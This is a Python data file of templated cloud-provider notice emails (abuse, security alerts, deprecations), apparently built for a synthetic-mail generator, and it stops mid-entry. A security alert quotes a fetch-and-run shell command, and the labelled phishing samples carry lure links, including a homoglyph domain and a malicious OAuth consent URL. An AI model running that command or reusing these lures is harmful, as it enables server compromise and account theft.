# -*- coding: utf-8 -*-
# Notice definitions, part A (critical + phishing). Dates in [[orig|fmt]] tokens are shifted by the generator.
M = []

M.append(dict(
 key="gcp-dos", label="abuse", provider="Google Cloud", lang="en",
 url="https://github.com/HyNetworks/hysteria/issues/1186",
 sent="2024-08-19 06:42", day=1, deadline=None,
 frm="Google Cloud Platform <CloudPlatform-noreply@google.com>",
 to="ops@kestrel-labs.example",
 subject="[Action Required] Google Cloud Platform: your VM has been suspended for denial of service activity",
 body="""Dear Google Cloud customer,

Our abuse systems found that a virtual machine in your project
proxy-lab (id: proxy-lab-418207) was sending traffic that matches a
denial of service (DoS) attack pattern.

  Project:        proxy-lab (id: proxy-lab-418207)
  VM instance:    hy-edge-01 (asia-northeast1-b)
  External IP:    198.51.100.77
  Observed:       [[2024-08-19T05:58|%Y-%m-%d %H:%M]] to [[2024-08-19T06:21|%H:%M]] (Pacific Time)

Launching denial of service attacks is not permitted under the Google Cloud
Platform Terms of Service and Acceptable Use Policy. To protect other users
and the platform, we have stopped the instance listed above. Other resources
in the project were not changed.

What you can do
- Check whether the traffic was expected. Forwarding or tunnelling software
  can produce bursts towards a single destination that look like an attack.
- If the machine may have been compromised, rebuild it from a trusted image
  and rotate any credentials that were stored on it.
- When you are confident the activity will not recur, sign in to the Cloud
  Console as a project owner and file an appeal from the notification banner.
  Describe what the instance was used for and what you changed.

If no appeal is received, the suspension stays in place.

Sincerely,
The Google Cloud Trust & Safety Team

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
You are receiving this mandatory service announcement because you are an
owner of the project named above.
"""))

M.append(dict(
 key="lolipop-limit-1000", label="abuse", provider="ロリポップ! (GMO Pepabo)", lang="ja",
 url="https://www.8seminar.com/lollipop-mail/",
 sent="2023-06-14 10:12", day=2, deadline=None,
 frm="Lolipop Rental Server <support@lolipop.jp>",
 to="info@hanamizuki-clinic.example",
 subject="【ロリポップ!】メール送信件数が上限を超えたため送信を制限しました",
 body="""ロリポップ!レンタルサーバーをご利用のお客様

いつもロリポップ!をご利用いただき、ありがとうございます。

ご契約アカウント【hanamizuki-clinic.example】のWEBサーバーから、
1時間のうちに【 1,000 】件のメールが送信されていることを検知しました。
これは禁止事項で定めている1時間あたりの送信件数の上限を上回る量です。
そのため、現在このアカウントのWEBサーバーからのメール送信を一時的に止めています。

▼禁止事項
https://lolipop.jp/order/kinshi/

※送信制限は、1時間が経過すると自動で解除されます。

上限を再び超えないよう、以下をご確認ください。

■送信に心当たりがある場合
ロリポップ!は複数のお客様で1台のサーバーを共有しています。
フォームの自動返信やお知らせメールなどは、上限の範囲に収まるよう
配信の間隔や件数を調整してください。

■送信に心当たりがない場合
WEBサーバー上のプログラムが意図せずメールを送っているか、
第三者に不正なファイルを設置されて悪用されている可能性があります。
・FTPなどで、設置した覚えのないファイルやフォルダがないか確認し、削除してください
・WordPress本体、テーマ、プラグインを最新の状態にしてください
・FTP、データベース、管理画面のパスワードを変更してください

ご不明な点は、ユーザー専用ページのお問い合わせフォームからご連絡ください。

――――――――――――――――――――
ロリポップ!レンタルサーバー
GMOペパボ株式会社
https://lolipop.jp/
――――――――――――――――――――
"""))

M.append(dict(
 key="lolipop-limit-3000", label="abuse", provider="ロリポップ! (GMO Pepabo)", lang="ja",
 url="https://blog.macaya.jp/diary/lolipop-the-maximum-number-of-emails-sent-has-been-exceeded/",
 sent="2022-11-08 16:05", day=3, deadline=None,
 frm="Lolipop Rental Server <support@lolipop.jp>",
 to="webmaster@kobayashi-koumuten.example",
 subject="【ロリポップ!】メール送信件数の上限を超過しております",
 body="""お客様各位

平素よりロリポップ!をご利用いただきまことにありがとうございます。

アカウント【kobayashi-koumuten.example】のWEBサーバーより、
【 3,000 】件のメールが送られたことを確認しました。

禁止事項に定める1時間あたりの送信件数の上限を超えておりますので、
ただいまWEBサーバーからのメール送信を制限しております。

▽禁止事項
https://lolipop.jp/order/kinshi/

以下をご確認のうえ、必要な対応をお願いいたします。

■メールの送信にお心当たりがある場合
ロリポップ!は共用サーバーのため、安定して動かすことを目的に
1日あたりの送信件数にも上限を設けています。
一斉配信などは、上限内に収まるよう分けて送信してください。

■メールの送信にお心当たりがない場合
WEBサーバー上のファイルから自動でメールが送られている、
または第三者がメール送信用の不正ファイルを設置し悪用している可能性があります。
次の順に対策を行ってください。
 1. 不審なファイルの確認と削除
 2. CMS・プラグインの更新
 3. 各種パスワードの変更
 4. 対策完了後、お問い合わせフォームからご連絡

何卒よろしくお願い申し上げます。

ロリポップ!サポートセンター
https://lolipop.jp/support/
"""))

M.append(dict(
 key="vercel-blocked", label="abuse", provider="Vercel", lang="en",
 url="https://github.com/surgioproject/surgio/issues/152",
 sent="2021-08-12 09:31", day=4, deadline=None,
 frm="Vercel <notifications@vercel.com>",
 to="dev@tidepool-apps.example",
 subject="Your Vercel account has been blocked",
 body="""Hi tidepool-apps,

We have blocked your Vercel account (team: tidepool-apps) after a review by
our Trust & Safety team.

Reason: one or more of your deployments was found to operate as a proxy
service. Running proxies, including services that generate or relay proxy
configuration for other users, is not allowed under our Terms of Service and
Fair Use Guidelines.

Affected project:  surge-config (surge-config-tidepool.vercel.app)

While the block is in place:
- deployments cannot be created and existing deployments return an error
- the dashboard is read-only
- domains stay assigned to your account

If you believe this was a mistake, or you want access back so that you can
remove the project, reply to this email and tell us:
  1. what the project is used for, and
  2. that you will delete the project once access is restored.

Please do not open a new account while this review is pending.

Thank you,
Vercel Trust & Safety
https://vercel.com/legal/terms
"""))

M.append(dict(
 key="aliyun-hacktool", label="security-incident", provider="Alibaba Cloud (Aliyun)", lang="zh",
 url="https://github.com/fatedier/frp/issues/2171",
 sent="2020-12-30 14:20", day=5, deadline=None,
 frm="Aliyun Security Center <noreply@notice.aliyun.com>",
 to="admin@beiming-tech.example",
 subject="【阿里云】云安全中心紧急告警：恶意进程（云查杀）-黑客工具",
 body="""尊敬的阿里云用户 beiming-tech：

云安全中心在您的云服务器上检测到一条紧急级别的安全告警，请尽快处理。

告警类型：恶意进程（云查杀）- 黑客工具
告警等级：紧急
实例名称：bm-gateway-02（i-bp1a7k2x9mq3rt5w8zc1）
公网 IP：203.0.113.58
可疑文件：/usr/local/frp/frpc
首次发现：[[2020-12-30T14:11|%Y-%m-%d %H:%M:%S]]

告警说明：
该服务器上发现可疑的黑客工具。此类程序常在入侵过程中用于提升权限、
窃取敏感数据、卸载安全软件，或作为入侵后留下的后门程序。

处理建议：
1. 登录云安全中心控制台，在“安全告警处理”中查看进程详情与启动命令；
2. 如确认是您自己部署的程序，可将其“加白名单”，后续不再告警；
3. 如无法确认来源，请隔离该文件、结束相关进程，并排查登录日志、计划任务与启动项；
4. 修改服务器登录密码，建议改用密钥登录并收紧安全组规则。

本邮件由系统自动发送，请勿直接回复。
阿里云 云安全中心
"""))

M.append(dict(
 key="alibaba-mining", label="security-incident", provider="Alibaba Cloud", lang="en",
 url="https://github.com/xuxueli/xxl-job/issues/2440",
 sent="2021-05-27 03:47", day=6, deadline=None,
 frm="Alibaba Cloud Security Center <noreply@notice.alibabacloud.com>",
 to="it@lanternfish-logistics.example",
 subject="[Alibaba Cloud] Security Center alert: mining program and remote script download detected on ECS instance",
 body="""Dear Alibaba Cloud user,

Security Center raised 2 urgent alerts for an ECS instance in your account
(UID 5871220934416628).

Instance:   job-scheduler-prod (i-t4n6hq1c8f0yzw3e2rk7)
Region:     China (Hangzhou)
Public IP:  198.51.100.143

Alerts
  1. Mining program
     Process /tmp/.x/kdevtmpfsi was found using most of the CPU and
     connecting to a public mining pool.
     First seen: [[2021-05-27T03:09|%Y-%m-%d %H:%M]] (UTC+8)

  2. Suspicious command: remote script download and execution
     A child process of the Java application server ran
     "curl -fsSL http://203.0.113.9/ldr.sh | sh".
     First seen: [[2021-05-27T03:06|%Y-%m-%d %H:%M]] (UTC+8)

These events usually mean an attacker reached the server through an exposed
application feature (for example a job executor that can run shell commands)
and installed a miner.

Recommended actions
- Open Security Center > Alerts and use "Quarantine" on the listed files.
- Kill the mining process and remove cron entries or services it created.
- Restrict access to the job scheduler admin and executor ports in the
  security group; enable an access token for executors.
- Check the remaining alerts and run a full virus scan on the instance.

This is an automated message from Alibaba Cloud Security Center.
"""))

M.append(dict(
 key="gitguardian-gcp", label="security-incident", provider="GitGuardian (Google Cloud key)", lang="en",
 url="https://github.com/cs210/edugate-code/issues/1",
 sent="2018-04-16 22:03", day=7, deadline=None,
 frm="GitGuardian <security@gitguardian.com>",
 to="mira.okafor@orchid-mail.example",
 subject="[GitGuardian] Google Cloud API key exposed in orchid-campus/campus-portal",
 body="""Hello @mokafor,

GitGuardian found a Google Cloud API key in a commit you pushed to a
public repository.

  Repository:  orchid-campus/campus-portal
  Commit:      5c1e9a7
  Pushed at:   [[2018-04-16T21:55|%Y-%m-%dT%H:%M:47Z]]
  File:        config/drive.js
  Secret type: Google Cloud API key

GitGuardian ("GG") is a bot that watches public GitHub commits in real time
for credentials. Anything pushed to a public repository can be read by anyone,
so this key should be treated as compromised even if you delete the file.

What we suggest
1. Revoke or regenerate the key in the Google Cloud Console
   (APIs & Services > Credentials).
2. Move the new key to an environment variable or a secret store instead of
   source code.
3. Look at the API usage for the key to see whether it has been used by
   someone else.

You are receiving this email because your address is attached to the commit.

The GitGuardian team
"""))

M.append(dict(
 key="heroku-github-incident", label="security-incident", provider="Heroku", lang="en",
 url="https://github.com/alphagov/govuk-prototype-kit/issues/1298",
 sent="2022-04-21 18:40", day=8, deadline=None,
 frm="Heroku <noreply@heroku.com>",
 to="prototypes@hollyoak-council.example",
 subject="Heroku security notification: GitHub integration disconnected",
 body="""Hello,

We are writing with an update on the security incident affecting the Heroku
GitHub integration.

As part of our investigation we found that an attacker used stolen OAuth
tokens issued to the Heroku Dashboard GitHub integration to access
repositories belonging to some customers. To contain the incident we have
revoked all of these tokens. As a result:

- automatic deploys from GitHub to Heroku are stopped
- deploying from the Deploy tab of the Dashboard with a GitHub source is
  not available
- review apps and Heroku CI runs that rely on GitHub cannot start

Deploys with the Heroku CLI (git push heroku) are not affected.

What you should do
1. Sign in at https://dashboard.heroku.com. You may be asked to reset your
   password first.
2. Open each app that was connected to GitHub, go to Deploy and choose
   Disconnect in the "App connected to GitHub" section.
3. Review the security logs of your GitHub organisation for activity you
   do not recognise, and rotate any secrets stored in app config vars.
4. When we re-enable the integration we will email you; you can then
   connect the app again.

Affected apps on your account: hollyoak-bins-prototype, hollyoak-permits-alpha

We are sorry for the disruption. Updates are posted on
https://status.heroku.com.

The Heroku Security Team
"""))

M.append(dict(
 key="gcp-public-key", label="security-incident", provider="Google Cloud", lang="en",
 url="https://github.com/fullstackreact/google-maps-react/issues/543",
 sent="2023-03-09 11:26", day=9, deadline=None,
 frm="Google Cloud <CloudPlatform-noreply@google.com>",
 to="owner@larchmont-realty.example",
 subject="[Action Required] Publicly accessible Google API key for Google Cloud Platform project larchmont-maps",
 body="""Dear Google Cloud Platform customer,

We found an API key belonging to your Google Cloud Platform project
larchmont-maps (id: larchmont-maps-302114) in a location that anyone on the
internet can read:

  Key name:   Browser key (auto created)
  Key ID:     ...7QvX
  Found at:   https://github.com/larchmont-realty/listing-site/blob/main/src/config.js

Public keys can be copied and used by others, which can lead to unexpected
charges on your billing account or exhaust your quota.

We recommend that you:
- regenerate the key in the Cloud Console (APIs & Services > Credentials)
  and update your application;
- add application restrictions (HTTP referrers, IP addresses, or Android/iOS
  apps) and API restrictions so the key works only where you need it;
- remove the key from the public source and from its history.

Learn more about protecting API keys:
https://cloud.google.com/docs/authentication/api-keys

Sincerely,
The Google Cloud Platform Trust & Safety Team
"""))

M.append(dict(
 key="gcp-compromised-key", label="security-incident", provider="Google Cloud", lang="en",
 url="https://github.com/ericberman/MyFlightbookAndroid/issues/336",
 sent="2026-03-25 07:15", day=10, deadline=None,
 frm="Google Cloud <CloudPlatform-noreply@google.com>",
 to="eric.vance@skylog-apps.example",
 subject="Action required: a Google Cloud API key in your project may be compromised",
 body="""Hello,

Google has detected that an API key associated with your project
skylog-android (id: skylog-android-71523) has been exposed publicly and may
have been compromised.

  Key:         Android key (auto created by Google Service), ending ...Hc4Q
  Detected in: a publicly downloadable application file and a web page
               at https://downloads.skylog-apps.example/old/skylog-5.2.apk

Why this matters
A key that is available to others can be used to call Google APIs on your
behalf. Depending on the APIs enabled, this can generate charges or reveal
data.

Recommended steps
1. Confirm that the key has an application restriction (Android package name
   and signing certificate fingerprint) and API restrictions.
2. If the key is not restricted, create a replacement key with restrictions,
   ship it in your app and delete the exposed key.
3. Review the key's recent usage in the Cloud Console for traffic you do not
   recognise.

More information:
https://docs.cloud.google.com/docs/authentication/api-keys#api_key_restrictions
https://docs.cloud.google.com/docs/security/compromised-credentials

You have received this mandatory service announcement to update you about
important changes to your Google Cloud account.

Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043
"""))

M.append(dict(
 key="npm-token-revocation", label="security-incident", provider="npm (GitHub)", lang="en",
 url="https://github.com/mozilla/web-ext/issues/1344",
 sent="2018-07-12 19:10", day=11, deadline=None,
 frm="npm, Inc. <support@npmjs.com>",
 to="release-bot@quillfox.example",
 subject="npm security notice: all access tokens created before [[2018-07-12|%Y-%m-%d]] 12:30 UTC have been revoked",
 body="""Hi quillfox-bot,

Earlier today a malicious version of the package eslint-scope (3.7.2) was
published using a compromised maintainer account. For about two hours,
installing that version ran code that read the ~/.npmrc file on the machine
and sent the npm access token it found to a remote server.

To protect the registry we have invalidated every npm access token that was
created before [[2018-07-12|%Y-%m-%d]] 12:30 UTC. This includes the tokens on
your account. Your password was not reset.

What this means for you
- "npm publish" and other authenticated commands will fail with the old
  tokens, including tokens stored in CI services.
- Sign in again with "npm login" to create a new token, then update the
  NPM_TOKEN secret in your CI configuration.
- If you installed eslint-scope@3.7.2 during the affected window, also rotate
  any other secrets stored in ~/.npmrc.

We strongly recommend enabling two-factor authentication for publishing.

Incident details: https://status.npmjs.org/incidents/dn7c1fgrr7ng

— The npm security team
"""))

M.append(dict(
 key="tencent-login", label="security-incident", provider="Tencent Cloud", lang="zh",
 url="https://github.com/alanhg/others-note/issues/462",
 sent="2022-05-03 08:02", day=12, deadline=None,
 frm="Tencent Cloud <cloud_noreply@tencent.com>",
 to="sre@qingshan-studio.example",
 subject="【腾讯云】主机安全告警：云服务器存在异常登录",
 body="""尊敬的腾讯云用户（账号 ID：100023748812）：

主机安全检测到您的云服务器出现一次异常登录，详情如下：

  实例 ID：   ins-8k2mzq4r
  实例名称：  qs-web-01
  内网 / 公网：10.0.4.17 / 198.51.100.206
  登录用户：  root
  来源 IP：   203.0.113.144（非常用登录地）
  登录时间：  [[2022-05-03T07:54|%Y-%m-%d %H:%M:%S]]
  判定原因：  登录来源不在常用登录地列表中

如本次登录为您本人或授权人员操作，可在控制台将该来源加入“常用登录地”，
之后同类登录将不再告警。

如无法确认登录来源，请立即：
1. 修改该服务器的登录密码或更换 SSH 密钥；
2. 检查账户、计划任务、启动项中是否有新增内容；
3. 在安全组中限制 22 端口的访问来源；
4. 登录主机安全控制台查看入侵检测中的其他事件。

告警设置可在 主机安全 > 设置中心 > 告警设置 中调整。

腾讯云
"""))

# ---------------- phishing ----------------
M.append(dict(
 key="phish-adwords", label="billing", provider="Google Ads (phishing)", lang="en", phishing=True,
 url="https://deanjackson.com/blog/google/",
 sent="2008-06-10 04:17", day=13, deadline=None,
 frm="Google AdWords <adwords-noreply@ionline-billing.example>",
 to="marketing@brightfern-shop.example",
 subject="Reactivate Your AdWords Google Account",
 body="""Dear Advertiser,

We could not charge your payment method for your most recent AdWords
balance. Unless the payment can be collected, the ads in your account will
be stopped shortly.

To keep your campaigns running, please confirm your billing details now:

   http://adwords.google.com.account-billing.ionline-billing.example/reactivate

Once your information has been updated, your ads will continue to run
without interruption.

Sincerely,
The Google AdWords Team

Please do not reply to this email; this mailbox is not monitored.
"""))

M.append(dict(
 key="phish-lolipop-expiry", label="billing", provider="ロリポップ! (phishing)", lang="ja", phishing=True,
 url="https://meiwaku-zukan.jp/?p=662",
 sent="2025-04-24 09:29", day=14, deadline="2025-04-24",
 frm="Lolipop Customer Support <support@lolipop.co.jp>",
 to="contact@nishiki-gallery.example",
 subject="nishiki-gallery.example : サービス有効期限の通知。!!",
 body="""件名:サービス終了のお知らせ!

お客様各位

ご利用中のサービス nishiki-gallery.example は、[[2025-04-24|jp]]をもって終了となります。
記録を確認いたしましたが、現時点で更新のお申し込みをいただいておりません。

サービスが中断されないよう、サブスクリプションの更新をおすすめいたします。

https://lоlіpор.jр/renew/3750500

注:期限までにお手続きいただけない場合、[[2025-04-24|jp]]をもってサービスへのアクセスを停止いたします。

更新に関するご質問は、カスタマーサポートチームが24時間365日受け付けております。

———————————————————————————————

よろしくお願いいたします。

カスタマーサポートチーム
"""))

M.append(dict(
 key="phish-lolipop-mailbox", label="billing", provider="ロリポップ! (phishing)", lang="ja", phishing=True,
 url="https://meiwaku-zukan.jp/?p=5380",
 sent="2026-01-27 03:39", day=15, deadline=None,
 frm="support@lolipop.jp",
 to="yoshida@harukaze-design.example",
 subject="対応が必要です: あなたのメールボックスは96%がいっぱいです",
 body="""あなたのメールボックスはもうすぐ満杯になります。

  使用中 47.99 ギガバイト / 50 ギガバイト

これまでどおりメールを使い続けるには、今すぐストレージの空き容量を増やしてください。

  [ ストレージの空き容量を確保する ]
  https://lolipop-mailbox-storage.example/upgrade?u=yoshida%40harukaze-design.example

空き容量が足りないと、配信が遅れたり、メッセージの送受信ができなくなったりすることがあります。

メールアドレス: yoshida@harukaze-design.example
"""))

M.append(dict(
 key="phish-github-security", label="security-incident", provider="GitHub (phishing)", lang="en", phishing=True,
 url="https://github.com/geerlingguy/3d-printing/issues/17",
 sent="2025-04-08 13:52", day=16, deadline=None,
 frm="donovangonzalez <notifications@github.com>",
 to="ravi-thermal/pid-tuner <pid-tuner@noreply.github.com>",
 subject="[ravi-thermal/pid-tuner] Notification Github Security (Issue #17)",
 body="""Security alert: Unauthorized login attempt detected!

We've detected an unusual sign-in attempt on your account!
- IP Address: 203.0.113.8
- Location: New York, USA

Immediate action required to secure your account!

1. Change your password right away to stop unauthorized access. Do not wait!
Change Password Now:
https://github.com/login/oauth/authorize?client_id=Ov23lit4gvZ7pVctYyZH&redirect_uri=https://github-com-settings-applications.example/auth/callback&scope=repo%20user%20delete_repo%20workflow

If this sign-in attempt was not made by you, act now to protect your account!
Secure Your Account:
https://github.com/login/oauth/authorize?client_id=Ov23lit4gvZ7pVctYyZH&redirect_uri=https://github-com-settings-applications.example/auth/callback&scope=repo%20user%20delete_repo%20workflow

Be aware: unauthorized actions may compromise your account. Do not ignore this alert!

—
Reply to this email directly, view it on GitHub:
https://github.com/ravi-thermal/pid-tuner/issues/17
You are receiving this because you are subscribed to this thread.
"""))

M.append(dict(
 key="heroku-cedar14", label="action-required", provider="Heroku", lang="en",
 url="https://github.com/gruntjs/gruntjs.com/issues/205",
 sent="2019-05-01 17:05", day=17, deadline="2020-05-01",
 frm="Heroku <noreply@heroku.com>",
 to="infra@pebblejs.example",
 subject="Heroku Cedar-14 stack: end-of-life window has begun",
 body="""Hello,

Heroku deprecated the Cedar-14 stack on [[2018-05-03|%B %-d, %Y]], and the end-of-life
(EOL) window for that stack has now started under our stack update policy.
One or more apps on your Heroku account still run on Cedar-14.

For one year your Cedar-14 apps will keep running and building, and we will
keep applying critical security fixes to the stack during that grace period.
We strongly recommend moving them to the current stack, Heroku-18, before the
window closes.

Key dates
  [[2018-05-03|%B %-d, %Y]]  Deprecation of Cedar-14 announced.
  [[2019-05-01|%B %-d, %Y]]  EOL window opens. Cedar-14 apps still run, build and
                 receive security updates. Apps on newer stacks are unaffected.
  [[2020-05-01|%B %-d, %Y]]  EOL window closes. Cedar-14 apps keep running but can
                 no longer be built and get no further security updates.

What do I need to do?
Follow the Dev Center guide "Upgrading to the latest stack" to move each app.

Which apps are on Cedar-14?
Apps on your account that use Cedar-14:
  pebblejs-site

This list may be incomplete; you can check each app's stack with
"heroku stack -a APP_NAME".

Thanks,
The Heroku Team
"""))

M.append(dict(
 key="netlify-xenial", label="action-required", provider="Netlify", lang="en",
 url="https://github.com/opencontainers/umoci/issues/453",
 sent="2022-09-28 15:30", day=18, deadline="2022-11-15",
 frm="Netlify <team@netlify.com>",
 to="maintainers@layerkit.example",
 subject="Action needed: select a new build image for layerkit-docs before [[2022-11-15|%B %-d]]",
 body="""Hi there,

Your site layerkit-docs still builds on the Ubuntu 16.04 "Xenial Xerus"
build image, which is no longer supported.

After [[2022-11-15|%B %-d, %Y]], builds for this site will fail unless you switch
to a newer build image. All Netlify builds that use the Xenial image will
begin failing during the week of [[2022-11-15|%B %-d, %Y]].

How to switch
1. Open Site settings > Build & deploy > Continuous deployment > Build image selection:
   https://app.netlify.com/sites/layerkit-docs/settings/deploys#build-image-selection
2. Choose Ubuntu Focal 20.04 (the current default) and save.
3. Trigger a new deploy and check the log for errors.

Your deploy logs for this site already show a DEPRECATION NOTICE with the
same information.

Migration guide and FAQ:
https://answers.netlify.com/t/please-read-end-of-support-for-xenial-build-image-everything-you-need-to-know/68239

Thanks,
The Netlify team
"""))

M.append(dict(
 key="twilio-sha2", label="action-required", provider="Twilio", lang="en",
 url="https://github.com/odota/core/issues/708",
 sent="2015-10-08 17:02", day=19, deadline="2015-12-01",
 frm="Team Twilio <no-reply@twilio.com>",
 to="dev@oakmoor-stats.example",
 subject="Important changes to Twilio's security certificate",
 body="""Ahoy!

Keeping your data safe is a priority for us. On [[2015-12-01|%B %-d, %Y]] we will
replace the certificate on api.twilio.com with one signed using SHA-2, a
stronger signature algorithm.

Most applications will not notice any difference. Applications that rely on
old SSL/TLS client libraries, however, might fail to connect after the
switch.

Test your application now
We have set up a test endpoint that already serves the new certificate:

    https://api.twilio.com:8443

This endpoint listens on port 8443 instead of the usual 443, so set that port
explicitly in your Twilio helper library or HTTP client while testing.

The test endpoint will be retired on [[2015-12-01|%B %-d, %Y]], when the SHA-2
certificate goes live on the main API endpoint (port 443).

Questions? Write to help@twilio.com. We're here to help.

Cheers,
Team Twilio
"""))

M.append(dict(
 key="twilio-sha2-reminder", label="action-required", provider="Twilio", lang="en",
 url="https://github.com/twilio/twilio-ruby/issues/181",
 sent="2015-11-24 18:45", day=20, deadline="2015-12-01",
 frm="Team Twilio <no-reply@twilio.com>",
 to="platform@veranda-bookings.example",
 subject="Reminder: Twilio certificate update on [[2015-12-01|%B %-d]]",
 body="""Hello,

A quick reminder: on [[2015-12-01|%B %-d, %Y]] at 4:30 PM PT, api.twilio.com will
start serving a certificate signed with SHA-2.

As we explained in our announcement of [[2015-10-08|%B %-d, %Y]], nearly all
applications will keep working. Apps built on outdated SSL client libraries
are the ones at risk. You can confirm compatibility today against the test
endpoint, api.twilio.com:8443 (note the non-standard port; configure it in
your Twilio SDK).

The 8443 endpoint will be switched off on [[2015-12-01|%B %-d, %Y]] once the new
certificate is live on port 443.

If you have questions, contact help@twilio.com.

Cheers,
Team Twilio
"""))

M.append(dict(
 key="twilio-sip-eku", label="action-required", provider="Twilio", lang="en",
 url="https://github.com/livekit/sip/issues/593",
 sent="2026-02-18 16:20", day=21, deadline="2026-08-01",
 frm="Twilio <no-reply@twilio.com>",
 to="voice-eng@harbourline-telecom.example",
 subject="Upcoming changes to Twilio SIP TLS certificates",
 body="""Ahoy!

Your account (AC7f2e...91bd) connects to Twilio using SIP over TLS, so we
want to tell you about an industry-wide change to TLS certificates that may
affect Elastic SIP Trunking and Programmable Voice SIP Interface
connections.

What is changing
- From [[2026-05-01|%B %-d, %Y]], the public Certificate Authority that issues
  Twilio's certificates will stop including the Client Authentication
  Extended Key Usage (EKU) extension in new certificates.
- We plan to rotate our current SIP certificate on or after
  [[2026-08-01|%B %-d, %Y]]. If security needs require it, we may rotate it
  earlier without further notice.

Who is affected
Equipment or software that validates Twilio's certificate as a TLS client
certificate (mutual TLS) and requires the Client Authentication EKU will
reject the new certificate and drop calls.

What to do
- Check whether your SBC, PBX or SIP stack enforces the Client
  Authentication EKU on certificates presented by Twilio.
- If it does, change the validation settings before [[2026-08-01|%B %-d, %Y]].

Thank you,
The Twilio team
"""))

M.append(dict(
 key="gsuite-lsa", label="action-required", provider="Google Workspace (G Suite)", lang="en",
 url="https://github.com/zammad/zammad/issues/2866",
 sent="2019-12-17 19:12", day=22, deadline="2020-06-15",
 frm="The G Suite Team <gsuite-noreply@google.com>",
 to="admin@northwind-helpdesk.example",
 subject="[Action required] Turning off access to less secure apps for G Suite accounts",
 body="""Dear Administrator,

To better protect the Google accounts in your organisation, and given the
current threat landscape, we will turn off access to less secure apps (LSA)
for G Suite. Less secure apps are non-Google apps that sign in to a Google
account with only a username and password and no further verification, which
makes accounts easier to hijack. After the change, only apps that use OAuth
will be able to access G Suite accounts.

The change happens in two steps:

[[2020-06-15|%B %-d, %Y]]
  Users who have not connected to a less secure app before will no longer be
  able to do so. This covers third-party apps that use password-only access
  to Google calendars, contacts and email over protocols such as CalDAV,
  CardDAV and IMAP. Users who already connected can keep using those apps
  until the second step.

[[2021-02-15|%B %-d, %Y]]
  Access to less secure apps is turned off for all G Suite accounts.

What you need to do
- Identify users and apps in your domain that still use password-based
  access (Admin console > Security > Less secure apps, and the login audit
  log).
- Move mail clients to OAuth-capable versions, and move scripts and
  ticketing tools to OAuth or app-specific alternatives.

Details: https://gsuiteupdates.googleblog.com/2019/12/less-secure-apps-oauth-google-username-password-incorrect.html

Sincerely,
The G Suite Team

You have received this mandatory service announcement because of important
changes to your G Suite account. Domain: northwind-helpdesk.example
"""))

M.append(dict(
 key="workspace-lsa-2024", label="action-required", provider="Google Workspace", lang="en",
 url="https://github.com/google-marketing-solutions/google-analytics-utilities/issues/19",
 sent="2024-09-10 17:30", day=23, deadline="2024-09-30",
 frm="Google Workspace <workspace-noreply@google.com>",
 to="analytics@cobaltfield-media.example",
 subject="Reminder: password-only sign-in for third-party apps ends [[2024-09-30|%B %-d, %Y]]",
 body="""Hello,

This is a reminder for Google Workspace users in cobaltfield-media.example.

Starting on [[2024-09-30|%B %-d, %Y]], less secure apps, third-party apps or devices
that ask you to sign in with only your username and password will no longer
be supported for Google Workspace accounts.

Our records show recent password-only sign-ins from at least one such app
to your account, for example a spreadsheet add-on or script that connects to
Google services on your behalf.

To keep using an app with your Google Account, switch it to a more secure
way of signing in that does not share your password, such as "Sign in with
Google" (OAuth). If the app does not offer this option, contact its
developer or look for an alternative before [[2024-09-30|%B %-d, %Y]].

Learn how to use Sign in with Google:
https://support.google.com/accounts/answer/12849458

Exact dates for each product are listed on the Google Workspace Updates blog.

The Google Workspace Team
"""))

M.append(dict(
 key="bitbucket-app-passwords", label="action-required", provider="Atlassian (Bitbucket Cloud)", lang="en",
 url="https://github.com/amitsaha/gitbackup/issues/197",
 sent="2026-02-09 12:00", day=24, deadline="2026-06-09",
 frm="Atlassian <noreply@am.atlassian.com>",
 to="backups@greyheron-it.example",
 subject="Bitbucket Cloud: your app passwords stop working on [[2026-06-09|%B %-d, %Y]]",
 body="""Hi Dana,

You have app passwords on your Bitbucket Cloud account that are still in
use. App passwords are being replaced by API tokens.

  - Since [[2025-09-09|%B %-d, %Y]], new app passwords can no longer be created.
    Use API tokens with scopes instead.
  - On [[2026-06-09|%B %-d, %Y]], all existing app passwords will be disabled.
    Any integration, script or tool that still authenticates with an app
    password will stop working on that date.

App passwords used in the last 30 days
  Label              Last used       Permissions
  gitbackup-nightly  [[2026-02-08|%Y-%m-%d]]      repository:read
  ci-mirror          [[2026-02-06|%Y-%m-%d]]      repository:write

What to do
1. Create an API token with the scopes your tool needs:
   https://support.atlassian.com/bitbucket-cloud/docs/api-tokens/
2. Update the tool to use the token. API tokens use your Atlassian account
   email as the username.
3. Revoke the old app password once the new token works.

Thanks,
The Bitbucket Cloud team
"""))

M.append(dict(
 key="cloudflare-api-v1", label="action-required", provider="Cloudflare", lang="en",
 url="https://github.com/birkett/CloudFlare-DDNS-Updater/issues/9",
 sent="2018-05-21 14:00", day=25, deadline="2018-06-04",
 frm="Cloudflare <noreply@notify.cloudflare.com>",
 to="netadmin@ember-homelab.example",
 subject="Final notice: Cloudflare Client API v1 shuts down on [[2018-06-04|%B %-d]]",
 body="""Hello,

We have seen requests from your account to Cloudflare's Client API v1
(https://www.cloudflare.com/api_json.html) during the last 7 days.

Client API v1 was deprecated some time ago and will be shut down on
[[2018-06-04|%B %-d, %Y]]. After that date every request to the v1 endpoint will fail,
so tools that still use it, such as older dynamic DNS updaters, will stop
updating your records.

Recent v1 calls from your account
  Action        Zone                   Calls (7 days)
  rec_edit      ember-homelab.example   2,016
  rec_load_all  ember-homelab.example   2,016

What to do
- Move your integration to API v4: https://api.cloudflare.com/
- Where possible, authenticate with a scoped API token instead of your
  Global API Key.
- Update or replace third-party tools that only support v1.

Thank you,
The Cloudflare Team
"""))

M.append(dict(
 key="twilio-digicert-2018", label="action-required", provider="Twilio", lang="en",
 url="https://github.com/twilio/twilio-csharp/issues/439",
 sent="2018-07-16 18:00", day=26, deadline="2018-08-15",
 frm="Team Twilio <no-reply@twilio.com>",
 to="engineering@saltmarsh-clinics.example",
 subject="Action may be required: Twilio root certificate change on [[2018-08-15|%B %-d]]",
 body="""Ahoy!

On [[2018-08-15|%B %-d, %Y]] we are changing the certificate authority behind the TLS
certificates that secure the Twilio REST API. The new certificates chain to a
DigiCert root instead of the thawte root used today.

Who needs to act
If your servers use a standard, reasonably current CA bundle in their trust
store, nothing needs to change. If your application pins certificates or
ships its own restricted list of trusted roots, it could reject the new
certificate and fail to reach Twilio after [[2018-08-15|%B %-d, %Y]].

How to test
Point your client at https://api.twilio.com:8443 (port 8443), which already
serves the new certificate chain. If your requests succeed there, you are
ready.

